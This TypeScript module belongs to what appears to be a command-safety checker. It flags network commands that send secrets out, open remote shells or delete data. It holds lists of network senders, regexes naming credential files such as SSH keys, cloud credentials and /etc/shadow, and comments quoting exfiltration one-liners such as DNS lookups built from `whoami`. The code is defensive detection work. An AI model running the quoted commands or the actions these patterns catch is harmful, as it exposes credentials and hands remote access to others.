import { REASONS } from '../reasons.js';
import { flag, UNKNOWN, type Scan } from '../scan.js';
import { destroysData, destroysOverHttp } from './databases.js';
import { checkWriteTarget } from '../write-targets.js';
import { judgeRecursiveDelete } from './files.js';
import type { Command, CommandSpec } from './spec.js';

/**
 * Network tools: downloads (what they write, and the names they save under, so `sh x.sh` after `curl -o x.sh`
 * is seen as running a download), raw sockets wired to a shell, and the senders the exfiltration rule watches.
 */
export const NETWORK_SENDERS: ReadonlySet<string> = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'scp', 'sftp', 'ftp', 'telnet', 'rsync', 'ssh', 'http', 'https', 'xh', 'mail', 'sendmail', 'mutt', 'aws', 'gsutil', 'rclone', 'openssl']);
/** Private keys, cloud and tool credentials, password databases and dotenv files (not `.env.example`). */
export const SECRET_MENTION =
  /((^|\/)\.ssh(\/(id_[\w-]+|[\w-]+_key)\b(?!\.pub)|\/?$)|\.aws\/credentials|(^|\/)\.aws\/?$|\.gnupg\b|(^|\/)\.(kube|docker|azure)\/?$|(^|\/)\.config\/gcloud\/?$|\.netrc\b|\.git-credentials\b|\.pgpass\b|\.docker\/config\.json|\.kube\/config|\.config\/gcloud\/(application_default_credentials\.json|credentials\.db|legacy_credentials)|\.config\/gh\/hosts\.yml\b|(^|\/)\*\.(pem|key|p12|pfx)$|\.azure\/(accessTokens\.json|msal_token_cache)|\/etc\/(g?shadow|passwd|sudoers)\b|(^|[/@=])\.env(\.(local|production|prod|development|dev))?$|\.hearth\/)/;
/**
 * Commands whose output is a secret: a private key export, a keychain password, git's stored credentials in clear
 * (`git credential fill`, a helper's `get`). Token printers such as `gh auth token` are left out: their output goes
 * into an Authorization header of the very API it is for, everyday use.
 */
export const SECRET_PRINTERS: readonly RegExp[] = [/^gpg2? (.* )?--export-secret(-sub)?-keys\b/, /^security find-(generic|internet)-password\b.* -w\b/, /^git (.* )?credential(-[\w-]+)? (fill|get)\b/];
/**
 * Commands whose output is a password, token or private key, printed where the model reads it (secretRead, like `cat
 * ~/.aws/credentials`): keychain and secret-service lookups, a CLI's own stored token, an AWS secret key, a Kubernetes
 * secret's data value, an exported secret key. `git credential fill` stays out: a helper protocol scripts speak.
 */
export const SECRET_OUTPUT: readonly RegExp[] = [
  /^gpg2? (.* )?--export-secret(-sub)?-keys\b/,
  /^security find-(generic|internet)-password\b.* -w\b/,
  /^secret-tool lookup\b/,
  /^(gh|glab) auth token\b/,
  /^aws (.* )?configure get (\S*\.)?\S*(secret|token|password)\S*/i,
  /^kubectl (.* )?get secrets?\b.*(\{\s*\.data\.[\w.-]+|\{\s*\.data\[|index \.data|\.stringData)/,
  /^op (read|item get\b.*--(reveal|fields))\b/,
];
/** The whole environment pasted into an argument: `--post-data="$(env)"`. */
const ENVIRONMENT_SUBSTITUTED = /\$\(\s*(env|printenv|set|export -p|declare -x)\s*(\|[^)]*)?\)|`\s*(env|printenv)\s*`/;
/** A secret variable placed in a URL or request body (a `-H` header with a token is ordinary API use). */
const SECRET_VARIABLE_SENT = /(https?:\/\/\S*|(-d|--data[\w-]*|-F|--form)[\s=]\S*)\$\{?\w*(SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|PRIVATE_KEY|ACCESS_KEY)\w*/i;

function download(command: Command, scan: Scan): void {
  const { name, args } = command;
  if (destroysOverHttp(args)) flag(scan, REASONS.sqlDrop);
  if (args.some((a) => /^(https?|ftp):\/\//.test(a) && a.includes(UNKNOWN) && /\$\(|`/.test(command.invocation.source))) scan.mentionsSecret = true;
  if (SECRET_VARIABLE_SENT.test(command.invocation.source) || ENVIRONMENT_SUBSTITUTED.test(command.invocation.source)) scan.mentionsSecret = true;
  if (args.some((a) => /^@/.test(a) || /^-[dF]@|^--data[\w-]*=@|^--upload-file/.test(a))) {
    // `-d @.env`, `-T file`: the file is sent.
    for (const a of args) if (/(^|@)(~\/)?\.(env|ssh|aws|netrc)/.test(a)) scan.mentionsSecret = true;
  }
  const outputFlags = name === 'curl' ? ['-o', '--output'] : ['-O', '--output-document'];
  args.forEach((arg, i) => {
    const attached = outputFlags.map((f) => (arg.startsWith(`${f}=`) ? arg.slice(f.length + 1) : null)).find((v) => v !== null);
    const target = outputFlags.includes(arg) ? args[i + 1] : attached;
    if (target !== undefined && target !== null && target !== '-') {
      checkWriteTarget(target, scan);
      scan.downloads.add(target.slice(target.lastIndexOf('/') + 1));
    }
  });
  const urls = args.filter((a) => /^(https?|ftp):\/\//.test(a)).map((u) => u.replace(/[?#].*$/, ''));
  const namesItself = name === 'wget' ? !args.some((a) => outputFlags.some((f) => a === f || a.startsWith(`${f}=`) || /^-[a-zA-Z]*O/.test(a))) : args.some((a) => a === '-O' || a === '--remote-name' || /^-[a-zA-Z]*O$/.test(a));
  if (namesItself) for (const url of urls) scan.downloads.add(url.slice(url.lastIndexOf('/') + 1));
}

const RCLONE_DRY_RUN = /^(-n|--dry-run)$/;

/** `rclone purge /home/dev`: a path with no `remote:` is the local filesystem, and deleting it is `rm -rf` there. */
function rcloneLocal(command: Command, scan: Scan): void {
  const [sub = '', ...paths] = command.operands;
  if (!/^(purge|delete|deletefile|rmdirs)$/.test(sub) || command.options.some((o) => RCLONE_DRY_RUN.test(o))) return;
  const local = paths.filter((p) => !/^[\w.-]*:/.test(p));
  if (local.length > 0) judgeRecursiveDelete(local, scan);
}

const SSH_VALUES = new Set(['-b', '-c', '-D', '-E', '-e', '-F', '-I', '-i', '-J', '-L', '-l', '-m', '-O', '-o', '-p', '-Q', '-R', '-S', '-W', '-w', '-B', '--ssh', '--port']);
/** ssh modes that open no shell: no command (-N), a forward or control request, a config query. */
const NO_SHELL = /^-[a-zA-Z]*[NTGVQWO]|^-[LRD]$/;

/**
 * `ssh root@host …` runs as root there; `ssh host` / `mosh host` with no command opens an interactive shell on
 * another machine, which this checker can no longer follow (`git@` hosts serve git, not a shell).
 */
export function judgeRemoteLogin(argv: readonly string[], scan: Scan): void {
  const args = argv.slice(1);
  let destination: string | undefined;
  let at = 0;
  for (; at < args.length; at += 1) {
    const a = args[at] as string;
    if (a === '--') continue;
    if (a.startsWith('-')) {
      if (SSH_VALUES.has(a)) at += 1;
      continue;
    }
    destination = a;
    break;
  }
  const user = args[args.indexOf('-l') + 1];
  if (destination?.startsWith('root@') === true || (args.includes('-l') && user === 'root')) flag(scan, REASONS.sudo);
  // ssh carries its stdin to the remote command (`tar czf - ~/.gnupg | ssh host 'cat > g.tgz'`): a secret the line
  // read before ssh starts is sent (what the remote command itself names stays on the remote host).
  if (scan.mentionsSecret) flag(scan, REASONS.exfiltration);
  const command = args.slice(at + 1);
  if (destination !== undefined && command.length === 0 && !destination.startsWith('git@') && !args.some((a) => NO_SHELL.test(a))) flag(scan, REASONS.remoteShell);
}

export const NETWORK_SPECS: readonly CommandSpec[] = [
  { names: ['curl', 'wget'], values: ['-o', '--output', '-O', '--output-document', '-H', '--header', '-d', '--data', '-X', '--request', '-u', '--user', '-A', '-e', '-T', '--upload-file', '-F', '--form'], check: download },
  { names: ['nc', 'ncat', 'netcat'], rules: [{ option: /^(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)$/, reason: REASONS.remoteShell }], check: (c, s) => {
    // `echo flush_all | nc localhost 11211`: a database protocol spoken by hand.
    const text = c.invocation.stdin?.text;
    if (text !== null && text !== undefined && destroysData(text)) flag(s, REASONS.sqlDrop);
  } },
  // A lookup whose name is computed (`dig $(whoami).$(hostname).x.example`) carries data out in the query.
  { names: ['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6'], check: (c, s) => {
    if (c.operands.some((o) => o.includes(UNKNOWN)) && /\$\(|`/.test(c.invocation.source)) flag(s, REASONS.exfiltration);
  } },
  { names: ['socat'], check: (c, s) => (c.operands.some((a) => /^(exec|system):/i.test(a)) ? flag(s, REASONS.remoteShell) : undefined) },
  // `rclone sync SRC DST` deletes whatever DST has that SRC lacks (`./empty` empties it); `-n`/`--dry-run` changes nothing.
  { names: ['rclone'], rules: [{ sub: 'purge|delete|deletefile|rmdir|rmdirs|cleanup', unless: RCLONE_DRY_RUN, reason: REASONS.cloudDelete }, { sub: 'sync|bisync', unless: RCLONE_DRY_RUN, reason: REASONS.cloudDelete }], check: rcloneLocal },
  { names: ['telnet', 'sftp', 'ftp', 'mail', 'sendmail', 'http', 'https', 'xh'] },
];
